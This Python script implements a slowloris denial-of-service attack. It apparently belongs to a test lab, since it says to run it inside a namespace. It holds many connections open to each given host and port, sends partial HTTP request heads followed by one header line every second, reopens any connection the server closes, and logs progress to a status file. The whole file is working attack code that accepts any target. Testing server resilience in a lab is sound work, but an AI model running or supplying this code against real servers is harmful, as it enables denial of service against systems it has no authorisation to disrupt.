#!/usr/bin/env python3
"""A slowloris from one LAN host (run inside a namespace with `lab exec`).

  slowloris.py HOST PORT[,PORT...] COUNT SECONDS STATUS_FILE

Keeps COUNT connections open to each HOST:PORT for SECONDS: each sends the start of a request
head and then one more header line every second, never the end of the head. A connection
the server closes is opened again at once. STATUS_FILE gets "ready" once every connection has
been tried, then once a second "open N refused M" (connections open now, closes seen so far).
"""
import errno
import resource
import socket
import sys
import time

host, ports, count, seconds, status = (
    sys.argv[1],
    [int(p) for p in sys.argv[2].split(",")],
    int(sys.argv[3]),
    float(sys.argv[4]),
    sys.argv[5],
)
need = len(ports) * count + 64
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(need, hard)), hard))

HEAD = b"GET / HTTP/1.1\r\nHost: %s\r\n" % host.encode()
slots = []  # [port, socket or None, head sent]
refused = 0


def dial(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((host, port))
    return s


for port in ports:
    for _ in range(count):
        slots.append([port, dial(port), False])
with open(status, "w") as f:
    f.write("ready\n")

end = time.time() + seconds
while time.time() < end:
    opened = 0
    for slot in slots:
        port, s, sent = slot
        try:
            s.send(b"X-Slow: 1\r\n" if sent else HEAD)
            slot[2] = True
            opened += 1
        except OSError as e:
            if e.errno in (errno.EAGAIN, errno.ENOTCONN, errno.EINPROGRESS):
                continue
            refused += 1
            s.close()
            slot[1], slot[2] = dial(port), False
    with open(status, "a") as f:
        f.write("open %d refused %d\n" % (opened, refused))
    time.sleep(1)
